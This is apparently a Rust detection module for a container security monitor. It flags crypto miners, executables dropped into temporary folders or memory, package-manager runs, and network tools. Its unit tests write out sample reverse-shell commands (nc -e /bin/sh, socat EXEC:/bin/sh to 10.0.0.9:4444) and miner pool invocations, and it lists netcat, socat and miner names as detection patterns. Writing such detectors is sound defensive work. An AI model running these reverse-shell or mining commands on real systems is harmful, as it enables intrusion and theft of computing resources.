//! The built-in rules that read one process: crypto miners, programs not from the image, package
//! managers and network tools. Each answers what it saw (for the alert's message), or `None`.

use crate::command::{invocations, Invocation};
use crate::facts::{shorten, ExecFacts};
use crate::packages::package_manager;
use crate::rules::RuleId;

/// Crypto miners' usual names, compared with a tool's name without regard to case.
pub const MINER_NAMES: &[&str] = &[
    "xmrig",
    "xmrig-notls",
    "xmrig-nvidia",
    "xmrig-amd",
    "xmr-stak",
    "xmr-stak-cpu",
    "xmr-stak-rx",
    "minerd",
    "cpuminer",
    "cpuminer-multi",
    "cpuminer-opt",
    "ccminer",
    "cgminer",
    "bfgminer",
    "ethminer",
    "t-rex",
    "nbminer",
    "lolminer",
    "phoenixminer",
    "nanominer",
    "gminer",
    "teamredminer",
    "srbminer-multi",
    "kawpowminer",
    "nheqminer",
];

/// Folders anyone can write to at runtime: a program there was put there after the image.
pub const TEMPORARY_FOLDERS: &[&str] = &[
    "/tmp/",
    "/var/tmp/",
    "/dev/shm/",
    "/run/shm/",
    "/run/user/",
    "/run/lock/",
    "/var/lock/",
    "/dev/mqueue/",
];

/// Network tools' names, compared exactly.
pub const NETWORK_TOOLS: &[&str] = &[
    "nc",
    "nc.openbsd",
    "nc.traditional",
    "ncat",
    "netcat",
    "netcat.openbsd",
    "netcat.traditional",
    "socat",
    "nmap",
    "masscan",
    "zmap",
    "rustscan",
    "tcpdump",
    "tshark",
    "dumpcap",
    "telnet",
];

/// Longest command line an alert's message quotes.
const QUOTED_CHARS: usize = 200;

/// One exec as the built-in rules read it: the facts, the cleaned executable path and the
/// command's readings (see [`invocations`]), worked out once for all the rules.
pub(crate) struct Seen<'a> {
    pub exec: &'a ExecFacts,
    pub path: &'a str,
    pub invocations: Vec<Invocation<'a>>,
}

impl<'a> Seen<'a> {
    pub fn new(exec: &'a ExecFacts, path: &'a str) -> Self {
        Seen {
            exec,
            path,
            invocations: invocations(path, &exec.argv),
        }
    }
}

/// A built-in rule: what it saw, for the alert's message, or `None`.
pub(crate) type Detect = fn(&Seen<'_>) -> Option<String>;

/// The built-in rules that read one process, in the order their alerts are listed.
pub(crate) const BUILT_IN: [(RuleId, Detect); 4] = [
    (RuleId::CryptoMiner, crypto_miner),
    (RuleId::NotFromImage, not_from_image),
    (RuleId::PackageManager, package_manager_run),
    (RuleId::NetworkTool, network_tool),
];

/// The command line as a message quotes it.
pub(crate) fn quoted(argv: &[String]) -> String {
    shorten(&argv.join(" "), QUOTED_CHARS).into_owned()
}

/// A known miner by name, or a mining pool's URL anywhere in the command line.
fn crypto_miner(seen: &Seen<'_>) -> Option<String> {
    let miner = seen.invocations.iter().find(|invocation| {
        MINER_NAMES
            .iter()
            .any(|miner| invocation.name.eq_ignore_ascii_case(miner))
    });
    if let Some(miner) = miner {
        return Some(format!("crypto miner {} started", miner.name));
    }
    seen.exec
        .argv
        .iter()
        .find_map(|arg| pool_url(arg))
        .map(|url| {
            format!(
                "the command line names a mining pool: {}",
                shorten(url, QUOTED_CHARS)
            )
        })
}

/// `stratum+tcp://...`, `stratum+ssl://...`, `stratum2+tcp://...` (any case) inside `text`, up
/// to the next space.
fn pool_url(text: &str) -> Option<&str> {
    let lower = text.to_ascii_lowercase();
    let mut from = 0;
    while let Some(found) = lower[from..].find("stratum") {
        let start = from + found;
        let rest =
            lower[start + "stratum".len()..].trim_start_matches(|c: char| c.is_ascii_digit());
        if let Some(scheme) = rest.strip_prefix('+') {
            let letters = scheme.len()
                - scheme
                    .trim_start_matches(|c: char| c.is_ascii_alphanumeric())
                    .len();
            if (1..=8).contains(&letters) && scheme[letters..].starts_with("://") {
                let end = text[start..]
                    .find(char::is_whitespace)
                    .map_or(text.len(), |end| start + end);
                return Some(&text[start..end]);
            }
        }
        from = start + 1;
    }
    None
}

/// Why the executable cannot have come from the image: where it runs from, that its file is
/// gone, or that it changed after the container started.
fn not_from_image(seen: &Seen<'_>) -> Option<String> {
    let (facts, path) = (seen.exec, seen.path);
    if path.is_empty() {
        return None;
    }
    let shown = shorten(path, QUOTED_CHARS);
    let mut reasons = Vec::new();
    if let Some(folder) = TEMPORARY_FOLDERS
        .iter()
        .find(|folder| path.starts_with(*folder))
    {
        reasons.push(format!("runs from the temporary folder {folder}"));
    }
    if facts.executable.starts_with("/memfd:") {
        reasons.push("runs from memory, with no file on disk".to_owned());
    } else if facts.is_deleted() {
        reasons.push("was deleted while running".to_owned());
    }
    if facts.modified_after_start() {
        reasons.push("was modified after its container started".to_owned());
    }
    (!reasons.is_empty()).then(|| format!("{shown} {}", reasons.join(" and ")))
}

/// A package manager changing software, named with the command line.
fn package_manager_run(seen: &Seen<'_>) -> Option<String> {
    let manager = seen.invocations.iter().find_map(package_manager)?;
    Some(format!(
        "package manager {manager} changes software: {}",
        quoted(&seen.exec.argv)
    ))
}

/// A network tool, but not a health check's `nc -z localhost PORT`.
fn network_tool(seen: &Seen<'_>) -> Option<String> {
    let tool = seen.invocations.iter().find(|invocation| {
        NETWORK_TOOLS.contains(&invocation.name) && !probes_loopback(invocation)
    })?;
    Some(format!(
        "network tool {} started: {}",
        tool.name,
        quoted(&seen.exec.argv)
    ))
}

/// `nc -z` (connect and send nothing: a port check) towards loopback addresses only.
fn probes_loopback(invocation: &Invocation<'_>) -> bool {
    if !invocation.name.starts_with("nc") && !invocation.name.starts_with("netcat") {
        return false;
    }
    let zero_io = invocation.args.iter().any(|arg| {
        arg.strip_prefix('-')
            .is_some_and(|letters| !letters.starts_with('-') && letters.contains('z'))
    });
    let mut hosts = invocation
        .args
        .iter()
        .filter(|arg| !arg.starts_with('-') && !is_port_or_number(arg))
        .peekable();
    zero_io && hosts.peek().is_some() && hosts.all(|host| is_loopback(host))
}

fn is_port_or_number(arg: &str) -> bool {
    !arg.is_empty() && arg.chars().all(|c| c.is_ascii_digit() || c == '-')
}

fn is_loopback(host: &str) -> bool {
    ["localhost", "ip6-localhost", "ip6-loopback", "::1", "[::1]"].contains(&host)
        || host.starts_with("127.")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(executable: &str, line: &str) -> ExecFacts {
        ExecFacts {
            executable: executable.into(),
            argv: line.split(' ').map(str::to_owned).collect(),
            ..ExecFacts::default()
        }
    }

    fn miner(executable: &str, line: &str) -> Option<String> {
        let facts = facts(executable, line);
        crypto_miner(&Seen::new(&facts, executable))
    }

    fn tool(executable: &str, line: &str) -> Option<String> {
        let facts = facts(executable, line);
        network_tool(&Seen::new(&facts, executable))
    }

    /// Whether the program at `path` (the cleaned path) is not from the image.
    fn dropped(facts: &ExecFacts, path: &str) -> Option<String> {
        not_from_image(&Seen::new(facts, path))
    }

    #[test]
    fn miners_are_known_by_name_wherever_they_live() {
        let seen = miner("/usr/local/bin/xmrig", "xmrig --donate-level 1").unwrap();
        assert_eq!(seen, "crypto miner xmrig started");
        assert!(miner("/tmp/.x/XMRig", "XMRig").is_some());
        assert!(miner("/opt/t-rex", "./t-rex -a kawpow").is_some());
        assert_eq!(miner("/usr/bin/nginx", "nginx -g daemon off;"), None);
        assert_eq!(miner("/usr/bin/minerva", "minerva"), None);
    }

    #[test]
    fn a_pool_url_anywhere_in_the_command_line_is_a_miner() {
        let seen = miner(
            "/tmp/kworker",
            "kworker -o stratum+tcp://pool.example:3333 -u wallet",
        )
        .unwrap();
        assert_eq!(
            seen,
            "the command line names a mining pool: stratum+tcp://pool.example:3333"
        );
        let shell = ExecFacts {
            argv: vec![
                "sh".into(),
                "-c".into(),
                "./k -o STRATUM+SSL://pool:443 -k".into(),
            ],
            ..facts("/bin/sh", "sh")
        };
        let seen = crypto_miner(&Seen::new(&shell, "/bin/sh")).unwrap();
        assert!(seen.ends_with("STRATUM+SSL://pool:443"), "{seen}");
        assert!(miner("/tmp/k", "k --url=stratum2+tcp://pool:3333").is_some());
        assert_eq!(miner("/usr/bin/app", "app --stratum-mode fast"), None);
        assert_eq!(miner("/usr/bin/app", "app stratum+://x"), None);
    }

    #[test]
    fn a_program_from_a_temporary_folder_or_memory_is_not_from_the_image() {
        let facts = ExecFacts::default();
        let seen = dropped(&facts, "/tmp/x").unwrap();
        assert_eq!(seen, "/tmp/x runs from the temporary folder /tmp/");
        assert!(dropped(&facts, "/dev/shm/.a/b").is_some());
        assert!(dropped(&facts, "/var/tmp/x").is_some());
        assert_eq!(dropped(&facts, "/usr/bin/tmp"), None);
        assert_eq!(dropped(&facts, "/tmpfs/x"), None);
        let memfd = ExecFacts {
            executable: "/memfd:x (deleted)".into(),
            ..ExecFacts::default()
        };
        assert!(dropped(&memfd, "/memfd:x").unwrap().contains("memory"));
    }

    #[test]
    fn a_program_deleted_or_changed_after_start_is_not_from_the_image() {
        let deleted = ExecFacts {
            executable: "/usr/bin/app (deleted)".into(),
            ..ExecFacts::default()
        };
        let seen = dropped(&deleted, "/usr/bin/app").unwrap();
        assert_eq!(seen, "/usr/bin/app was deleted while running");
        let changed = ExecFacts {
            executable: "/usr/bin/app".into(),
            exe_mtime: Some(1_700_000_500),
            container_started: Some(1_700_000_000),
            ..ExecFacts::default()
        };
        assert!(dropped(&changed, "/usr/bin/app")
            .unwrap()
            .contains("modified"));
        let shipped = ExecFacts {
            exe_mtime: Some(1_600_000_000),
            ..changed
        };
        assert_eq!(dropped(&shipped, "/usr/bin/app"), None);
    }

    #[test]
    fn network_tools_are_known_by_name_even_as_busybox_applets() {
        assert!(tool("/usr/bin/nc", "nc -e /bin/sh 10.0.0.9 4444").is_some());
        assert!(tool("/bin/busybox", "nc -lp 4444").is_some());
        assert!(tool("/usr/bin/socat", "socat TCP:10.0.0.9:4444 EXEC:/bin/sh").is_some());
        assert!(tool("/usr/sbin/tcpdump", "tcpdump -i any").is_some());
        assert_eq!(tool("/usr/bin/curl", "curl http://x"), None);
    }

    #[test]
    fn a_health_checks_port_probe_on_loopback_is_not_a_network_tool() {
        assert_eq!(tool("/usr/bin/nc", "nc -z localhost 8080"), None);
        assert_eq!(tool("/usr/bin/nc", "nc -zv -w 2 127.0.0.1 80"), None);
        assert!(tool("/usr/bin/nc", "nc -z 10.0.0.9 1-1024").is_some());
        assert!(tool("/usr/bin/nc", "nc localhost 8080").is_some());
        assert!(tool("/usr/bin/nc", "nc -z").is_some());
    }
}
